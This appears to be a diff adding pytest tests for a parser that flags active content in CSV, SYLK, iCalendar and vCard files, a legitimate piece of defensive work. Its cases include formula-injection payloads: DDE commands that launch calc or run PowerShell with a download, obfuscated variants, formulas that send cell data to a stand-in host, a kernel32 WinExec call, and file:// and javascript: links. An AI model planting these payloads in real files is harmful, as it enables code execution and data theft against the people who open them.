@@ -1,0 +1,94 @@
+"""Tables and cards: what acts in a spreadsheet or calendar program is found, however it is written."""
+
+import pytest
+
+from tests.workers.inspection.parsers.recorder import codes, examined
+from workers.inspection.parsers import text
+
+CSV, ICS, VCF = "text/csv", "text/calendar", "text/vcard"
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=" + "1+" * 10_000 + "cmd|'/c calc'!A1",
+        "=         C    m D       |        '/        c       c  al  c      .  e      x       e  '   !   A",
+        "=cmd|'/c powershell IEX(wget x)'!_xlbgnm.A1",
+        "\"=\ncmd|'/c calc'!A1\"",
+        "\"=cmd|'/c\ncalc'!A1\"",
+        "=MSEXCEL|calc!A1",
+        '=WEBDIENST("http://x.example/"&A1)',
+        '=SERVICEWEB("http://x.example/"&A1)',
+        "='file:///etc/passwd'#$passwd.A1",
+        "='\\\\server\\share\\[x.xlsx]Sheet1'!A1",
+        "=SUM('http://x.example/[x.xlsx]Sheet1'!A1)",
+        '=IF(A1=";",CALL("kernel32","WinExec","JCJ","calc",0),1)',
+        '=LIEN_HYPERTEXTE("http://x.example/"&A1;"x")',
+    ],
+)
+def test_a_cell_that_acts_is_found_in_any_spelling(cell: str) -> None:
+    assert codes(text, f"a\tb\nanna\t{cell}\tx\n".encode(), CSV) == ["active_formula"]
+
+
+def test_a_long_cell_across_two_pieces_is_found() -> None:
+    body = b"a,b\n" * 258_000 + b"anna,=" + b"1+" * 10_000 + b"cmd|'/c calc'!A1\n"
+    assert len(body) > 1024 * 1024 > body.index(b"=")
+    assert codes(text, body, CSV) == ["active_formula"]
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        "ID;Preis;Name\n1;2,50;Apfel\n",
+        "ID;Produkt;C;F\n1;C;F;P\nC;12;a\n",
+        "a|b|c\n2020|-5|Great!Thanks\n-3|yes!no|x\n",
+        "a;-5;please call (me)\n=A1;2;run (fast)\n",
+        "a,b\n- see (http://x.example/),@user foo(https://x.example)\n",
+        'a;=LIEN_HYPERTEXTE("https://x.example/";"b")\n',
+        'a,"=HYPERLINK(""https://x.example/a?b=1&c=2"",A1)"\n',
+        "it's|'quoted'|a!\n",
+        "path\n'C:\\a b'!x\n",
+    ],
+)
+def test_tables_that_look_alike_pass(body: str) -> None:
+    assert codes(text, body.encode(), CSV) == []
+
+
+def test_sylk_is_found_by_its_records_wherever_they_are() -> None:
+    cells = b'C;Y1;X1;K0;EEXEC("calc")\r\nE\r\n'
+    assert codes(text, b"ID;PWXL;N;E\r\n", "text/plain") == ["active_formula"]
+    assert codes(text, b"ID;P\r\n" + cells, CSV) == ["active_formula"]
+    assert codes(text, b"\r\nID;E;PX\r\n" + b"P;PGeneral\r\n" * 100_000 + cells, CSV) == ["active_formula"]
+    assert codes(text, b"x\r\nID;P\r\n" + cells, CSV) == []
+
+
+@pytest.mark.without_coverage
+def test_a_large_table_of_negative_numbers_takes_no_time() -> None:
+    assert codes(text, b"-1.5,-2.25,+3e5,=A1\n" * 400_000, CSV) == []
+
+
+@pytest.mark.parametrize(
+    ("line", "found"),
+    [
+        ('ATTACH;X="a:b":file://server/x', ["unsafe_link"]),
+        ("ATTACH:\\\\server\\share\\x.wav", ["unsafe_link"]),
+        ('DESCRIPTION;ALTREP="file://server/x":foo', ["unsafe_link"]),
+        ("URL;ENCODING=QUOTED-PRINTABLE:file=3A//server/x", ["unsafe_link"]),
+        ("URL;ENCODING=QUOTED-PRINTABLE:fi=\r\nle://server/x", ["unsafe_link"]),
+        ("URL:javascript:1", ["unsafe_link"]),
+        ('X-ALT-DESC;FMTTYPE=text/html:<p onclick="a">x\\, y', ["script"]),
+        ('X-ALT-DESC;FMTTYPE=text/html:<p><a href="https://x.example">x\\, y</a>', []),
+        ('DESCRIPTION;ALTREP="cid:part1@x":foo', []),
+        ("URL:localhost:3000/x", []),
+        ("URL:www.example.com:8080", []),
+        ("URL:message://%3Cabc%3E", []),
+        ("ATTACH;FMTTYPE=application/pdf:https://x.example/a.pdf", []),
+    ],
+)  # fmt: skip
+def test_addresses_in_calendars_are_found_in_any_spelling(line: str, found: list[str]) -> None:
+    assert codes(text, f"BEGIN:VCALENDAR\r\n{line}\r\nEND:VCALENDAR\r\n".encode(), ICS) == found
+
+
+def test_a_picture_without_padding_is_a_member() -> None:
+    body = b"BEGIN:VCARD\r\nPHOTO;ENCODING=BASE64;JPEG:/9j/4AAQ\r\n SkZJRg\r\n\r\nEND:VCARD\r\n"
+    assert examined(text, body, VCF).members == [("photo 1", b"\xff\xd8\xff\xe0\x00\x10JFIF")]
